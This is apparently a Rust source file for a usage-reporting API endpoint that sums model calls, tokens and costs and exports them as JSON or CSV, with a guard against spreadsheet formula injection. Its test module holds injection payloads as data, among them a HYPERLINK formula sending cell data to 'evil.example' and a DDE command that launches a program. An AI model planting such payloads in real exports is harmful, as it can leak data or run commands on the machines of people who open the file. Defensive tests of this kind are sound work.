//! The usage of model calls.

use axum::response::Response;
use http_server::error::{ErrorCode, Problem};
use http_server::extract::query::QueryParams;
use model::{AgentId, ThreadId, Timestamp};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use store::{Store, StoreError, UsageGroup, UsageSum};
use utoipa::{IntoParams, ToSchema};

use crate::api::respond::{csv_no_store, json_no_store};
use crate::app::request_context::RequestContext;
use crate::backend::Backend;
use crate::openapi::operation::{Operation, Scope};
use crate::openapi::schemas;
use crate::openapi::tags::AGENTS;

pub(crate) fn operations() -> Vec<Operation> {
    vec![
        Operation::get("/v1/usage", "showUsage", "Show the usage of model calls in totals", get)
            .tag(AGENTS)
            .scope(Scope::ReadAgents)
            .query::<UsageQuery>()
            .response::<UsageReport>(
                200,
                "Totals, ordered by group",
                json!({ "currency": "USD", "details_from": "2025-10-18", "usage": [used_example()] }),
            )
            .or_as("text/csv", json!({ "type": "string" }))
            .errors(&[ErrorCode::DatabaseBusy]),
    ]
}

/// Maximum number of groups in a response.
const MOST_GROUPS: u32 = 10_000;

#[derive(Debug, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
pub(crate) struct UsageQuery {
    /// Only turns that ended at this time or later.
    #[param(value_type = schemas::TimestampSchema)]
    from: String,
    /// Only turns that ended before this time; by default now.
    #[param(value_type = Option<schemas::TimestampSchema>)]
    to: Option<String>,
    /// Grouping: any of `day` (in UTC), `agent`, `thread`, `user`, `model`, `kind`,
    /// `finish_reason`, separated by commas. By default one sum of all.
    group_by: Option<String>,
    /// The format: `json`, or `csv` with a header line and a line for each group.
    #[param(default = "json", pattern = "^(json|csv)$")]
    format: Option<String>,
}

/// The usage of model calls, in sums.
#[derive(Serialize, ToSchema)]
pub(crate) struct UsageReport {
    /// The currency of the costs; null when no prices are configured.
    #[schema(required)]
    currency: Option<String>,
    /// The first day (in UTC) with details; null when all days have them. Earlier calls are
    /// kept only as sums: as of the start of their day, without thread and user.
    #[schema(required)]
    details_from: Option<String>,
    usage: Vec<SummedUsage>,
}

/// The sum of one group. Fields that were not grouped by, or are unknown, are null.
#[derive(Serialize, ToSchema)]
pub(crate) struct SummedUsage {
    #[schema(required)]
    day: Option<String>,
    #[schema(required)]
    agent_id: Option<String>,
    #[schema(required)]
    thread_id: Option<String>,
    /// `user_id` in the metadata of the thread.
    #[schema(required)]
    user_id: Option<String>,
    #[schema(required)]
    model: Option<String>,
    /// What the calls were for: `turn`, `follow_up`, `summary` or `memory`.
    #[schema(required)]
    kind: Option<String>,
    /// Why the answers ended; also null for answers that failed.
    #[schema(required)]
    finish_reason: Option<String>,
    /// Number of model calls.
    calls: i64,
    /// Number of calls of answers that did not reach their end; further calls of these may be
    /// unknown.
    partial_calls: i64,
    /// Number of calls that the provider did not count, because the answer was stopped, failed or
    /// was cut: their tokens are estimates.
    estimated_calls: i64,
    input_tokens: i64,
    output_tokens: i64,
    /// Part of the input tokens that the provider served from its cache, as far as reported.
    cached_tokens: i64,
    /// Part of the output tokens spent on reasoning, as far as reported.
    reasoning_tokens: i64,
    /// Total cost of the calls by the operator's prices, as a decimal number; null when none of
    /// them has a price.
    #[schema(required)]
    cost: Option<String>,
    /// Number of calls of models without a price at that time, which `cost` leaves out.
    unpriced_calls: i64,
}

pub(crate) async fn get(
    ctx: RequestContext,
    QueryParams(query): QueryParams<UsageQuery>,
) -> Result<Response, Problem> {
    let invalid = |detail: String| Problem::new(ErrorCode::InvalidQuery, detail);
    let is_csv = match query.format.as_deref() {
        None | Some("json") => false,
        Some("csv") => true,
        Some(other) => return Err(invalid(format!("format: {other} is neither json nor csv"))),
    };
    let moment = |name: &str, text: &str| {
        wire::parse_rfc3339(text)
            .ok_or_else(|| invalid(format!("{name} must be a time like 2026-12-24T18:00:00Z")))
    };
    let from = moment("from", &query.from)?;
    let to = query.to.as_deref().map(|to| moment("to", to)).transpose()?;
    let to = to.map_or_else(|| ctx.backend().map(Backend::now), Ok)?;
    let names = query.group_by.as_deref().unwrap_or_default();
    let by = UsageGroup::list(names).map_err(|name| {
        invalid(format!("group_by: {name} is none of day, agent, thread, user, model, kind, finish_reason"))
    })?;
    let by = by.as_slice();
    let report = ctx.read(move |store| async move { UsageReport::read(&store.wide(), from, to, by).await });
    let report = report.await?.ok_or_else(|| invalid(UsageReport::TOO_MANY.to_owned()))?;
    Ok(if is_csv { csv_no_store(report.to_csv()) } else { json_no_store(report) })
}

impl UsageReport {
    /// Message for a report with too many groups.
    pub(crate) const TOO_MANY: &str = "these are more than 10000 groups; ask for a shorter time or for fewer";

    /// The sums of calls of turns that ended from `from` on and before `to`; `None` when there are
    /// too many groups.
    ///
    /// # Errors
    /// The store cannot be read.
    pub(crate) async fn read(
        store: &Store,
        from: Timestamp,
        to: Timestamp,
        by: &[UsageGroup],
    ) -> Result<Option<Self>, StoreError> {
        let sums = store.usage(from, to, by, MOST_GROUPS + 1).await?;
        // Read after the sums: a day that is rolled up between the two reads is reported as rolled
        // up. In the reverse order a rolled-up day could be reported as having details.
        let details_from = store.usage_details_from().await?;
        let currency = store.prices().map(|prices| prices.currency.clone());
        let usage: Vec<SummedUsage> = sums.into_iter().map(SummedUsage::from).collect();
        Ok((usage.len() <= MOST_GROUPS as usize).then_some(Self { currency, details_from, usage }))
    }

    /// The report as CSV (RFC 4180): a header line, then one line per group, which ends with the
    /// currency and the first day with details.
    pub(crate) fn to_csv(&self) -> String {
        let names = [
            "day",
            "agent_id",
            "thread_id",
            "user_id",
            "model",
            "kind",
            "finish_reason",
            "calls",
            "partial_calls",
            "estimated_calls",
            "input_tokens",
            "output_tokens",
            "cached_tokens",
            "reasoning_tokens",
            "cost",
            "unpriced_calls",
            "currency",
            "details_from",
        ];
        let mut lines = names.join(",") + "\r\n";
        for usage in &self.usage {
            let of = [
                &usage.day,
                &usage.agent_id,
                &usage.thread_id,
                &usage.user_id,
                &usage.model,
                &usage.kind,
                &usage.finish_reason,
            ];
            let counts = [
                usage.calls,
                usage.partial_calls,
                usage.estimated_calls,
                usage.input_tokens,
                usage.output_tokens,
                usage.cached_tokens,
                usage.reasoning_tokens,
            ];
            let mut fields: Vec<String> = of.into_iter().map(|part| quoted(part.as_deref())).collect();
            fields.extend(counts.map(|count| count.to_string()));
            fields.push(usage.cost.clone().unwrap_or_default());
            fields.push(usage.unpriced_calls.to_string());
            fields.push(quoted(self.currency.as_deref()));
            fields.push(quoted(self.details_from.as_deref()));
            lines += &fields.join(",");
            lines += "\r\n";
        }
        lines
    }
}

/// A text as a CSV field. An unknown value becomes an empty field without quotes; an empty text has
/// quotes.
fn quoted(text: Option<&str>) -> String {
    text.map(|text| format!("\"{}{}\"", no_formula(text), text.replace('"', "\"\""))).unwrap_or_default()
}

/// The prefix that keeps a spreadsheet from reading a text as a formula: users and workflows write
/// these texts. Some programs look at the first character that is not white space, and accept the
/// wide forms of the characters, too.
fn no_formula(text: &str) -> &'static str {
    let begins = |text: &str| {
        text.starts_with([
            '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
        ])
    };
    if begins(text) || begins(text.trim_start()) { "'" } else { "" }
}

impl From<UsageSum> for SummedUsage {
    fn from(sum: UsageSum) -> Self {
        let [day, agent, thread, user_id, model, kind, finish_reason] = sum.of;
        // Clients do not see the tenant.
        let agent_id = agent.map(|id| AgentId::parse(&id).map_or(id, |agent| agent.name().to_owned()));
        let thread_id = thread.map(|id| ThreadId::parse(&id).map_or(id, |thread| thread.name().to_owned()));
        Self {
            day,
            agent_id,
            thread_id,
            user_id,
            model,
            kind,
            finish_reason,
            calls: sum.calls,
            partial_calls: sum.partial_calls,
            estimated_calls: sum.estimated_calls,
            input_tokens: sum.input_tokens,
            output_tokens: sum.output_tokens,
            cached_tokens: sum.cached_tokens,
            reasoning_tokens: sum.reasoning_tokens,
            cost: sum.cost,
            unpriced_calls: sum.unpriced_calls,
        }
    }
}

fn used_example() -> Value {
    json!({
        "day": "2026-11-22", "agent_id": "ann", "thread_id": null, "user_id": null, "model": "m-1", "kind": null, "finish_reason": null,
        "calls": 12, "partial_calls": 1, "estimated_calls": 1, "input_tokens": 14_400, "output_tokens": 960, "cached_tokens": 12_288, "reasoning_tokens": 192,
        "cost": "0.0456", "unpriced_calls": 0,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_of_strangers_are_no_formulas() {
        for text in [
            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1)",
            "+1+1",
            "-2+3",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\u{a0}=1",
            "\u{ff1d}1",
        ] {
            let field = quoted(Some(text));
            assert_eq!(field, format!("\"'{}\"", text.replace('"', "\"\"")), "{text}");
        }
        for text in ["ann", "a=b", "ann-monthly", "'quoted'", "", "2026-11-29", "東京"] {
            assert_eq!(quoted(Some(text)), format!("\"{text}\""));
        }
        assert_eq!(quoted(None), "");
    }
}
